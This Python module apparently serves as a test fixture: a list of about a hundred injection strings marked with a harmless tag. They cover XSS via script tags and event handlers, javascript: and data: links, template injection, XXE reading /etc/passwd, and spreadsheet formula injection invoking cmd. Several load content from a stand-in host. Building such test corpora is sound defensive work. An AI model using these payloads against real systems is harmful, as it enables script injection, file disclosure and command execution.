"""A hundred texts that try to become code, links or rules where they are shown."""

from __future__ import annotations

from typing import NamedTuple

MARK = "zq9x"
"""Stands in every attack: an element, attribute or address that holds it came from one."""


class Attack(NamedTuple):
    """One text; `alone` ones only work as a whole value, the others anywhere in one."""

    name: str
    text: str
    alone: bool = False


_ELEMENTS = """\
<script>window.zq9x=1</script>
<ScRiPt>window.zq9x=1</sCrIpT>
<script src=//zq9x.example></script>
<script/zq9x>window.zq9x=1</script>
<scr<script>ipt>window.zq9x=1</scr</script>ipt>
<script>alert(String.fromCharCode(122,113))//zq9x</script>
"><script>window.zq9x=1</script>
'><script>window.zq9x=1</script>
</script><script>window.zq9x=1</script>
</title><script>window.zq9x=1</script>
</textarea><script>window.zq9x=1</script>
</style><script>window.zq9x=1</script>
</noscript><script>window.zq9x=1</script>
</template><script>window.zq9x=1</script>
--><script>window.zq9x=1</script><!--
]]><script>window.zq9x=1</script>
<img src=x onerror=window.zq9x=1>
<img src=x:zq9x onerror=window.zq9x=1//
"><img src=x onerror=window.zq9x=1>
'><img src=x onerror=window.zq9x=1>
<img/src=`x`onerror=window.zq9x=1>
<img srcset=zq9x,zq9x>
<svg onload=window.zq9x=1>
<svg/onload=window.zq9x=1>
<svg><script>window.zq9x=1</script></svg>
<svg><a xlink:href="javascript:zq9x"><text y=9>zq9x</text></a></svg>
<svg><animate attributeName=href values=javascript:zq9x /></svg>
<svg><use href="data:image/svg+xml,zq9x#x"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=window.zq9x=1>
<math href="javascript:zq9x">zq9x</math>
<iframe src=javascript:zq9x></iframe>
<iframe srcdoc="<script>window.zq9x=1</script>"></iframe>
<object data=javascript:zq9x></object>
<embed src=javascript:zq9x>
<a href=javascript:zq9x>zq9x</a>
<a href="jav&#x09;ascript:zq9x">zq9x</a>
<a href="&#106;avascript:zq9x">zq9x</a>
<a href=data:text/html,zq9x>zq9x</a>
<a href=vbscript:zq9x>zq9x</a>
<base href=//zq9x.example/>
<link rel=stylesheet href=//zq9x.example>
<link rel=import href=//zq9x.example>
<meta http-equiv=refresh content="0;url=//zq9x.example">
<form action=//zq9x.example><input name=zq9x></form>
<button formaction=javascript:zq9x>zq9x</button>
<input autofocus onfocus=window.zq9x=1>
<select autofocus onfocus=window.zq9x=1>
<textarea autofocus onfocus=window.zq9x=1>
<details open ontoggle=window.zq9x=1>
<video><source onerror=window.zq9x=1></video>
<audio src=x onerror=window.zq9x=1>
<body onload=window.zq9x=1>
<marquee onstart=window.zq9x=1>
<style>@import '//zq9x.example';</style>
<div style="background:url(//zq9x.example)">zq9x</div>
<p id=zq9x class=zq9x>zq9x</p>
<b zq9x>zq9x</b>
<custom-zq9x onclick=1>
<plaintext zq9x>
<noscript><p title="</noscript><img src=x onerror=window.zq9x=1>">
<!--zq9x--><b zq9x>
<?xml version="1.0"?><zq9x/>
<!DOCTYPE zq9x [<!ENTITY x SYSTEM "file:///etc/passwd">]><zq9x>&x;</zq9x>
<![CDATA[<zq9x>]]>
&lt;script&gt;window.zq9x=1&lt;/script&gt;
&#60;b zq9x&#62;zq9x&#60;/b&#62;
%3Cscript%3Ewindow.zq9x=1%3C/script%3E
\\u003cscript\\u003ewindow.zq9x=1\\u003c/script\\u003e
\uff1cscript\uff1ewindow.zq9x=1\uff1c/script\uff1e"""

_QUOTES = """\
" onmouseover=window.zq9x=1 x="
' onmouseover=window.zq9x=1 x='
" autofocus onfocus=window.zq9x=1 x="
` onmouseover=window.zq9x=1 x=`
"zq9x='zq9x"
\\";window.zq9x=1;//
\\';window.zq9x=1;//
${window.zq9x=1}
{{ zq9x.__class__.__mro__ }}{{ 7 * 7 }}zq9x
{% for zq9x in range(9) %}zq9x{% endfor %}
{# zq9x #}
#{zq9x}<%= zq9x %>
*/window.zq9x=1;/*
<!--#exec cmd="zq9x"-->"""

_LINKED = """\
[zq9x](javascript:zq9x)
[zq9x](JaVaScRiPt:zq9x)
[zq9x](data:text/html;base64,zq9x)
![zq9x](x" onerror="window.zq9x=1)
<javascript:zq9x>
[zq9x]: javascript:zq9x
**zq9x** `<b zq9x>`"""

_WHOLE = """\
javascript:window.zq9x=1
JAVASCRIPT:window.zq9x=1
java\tscript:window.zq9x=1
data:text/html,<script>window.zq9x=1</script>
vbscript:zq9x
https://zq9x.example" onclick="window.zq9x=1
https://zq9x.example/javascript:zq9x
//zq9x.example/
\\\\zq9x.example\\
=HYPERLINK("https://zq9x.example","zq9x")
@SUM(1+1)*cmd|' /C zq9x'!A0
-2+3+cmd|' /C zq9x'!A0"""


def _named(group: str, texts: str, alone: bool = False) -> list[Attack]:
    return [Attack(f"{group} {at}", text, alone) for at, text in enumerate(texts.split("\n"), 1)]


ATTACKS: tuple[Attack, ...] = (
    *_named("element", _ELEMENTS),
    *_named("quote", _QUOTES),
    *_named("link", _LINKED),
    *_named("whole", _WHOLE, alone=True),
)
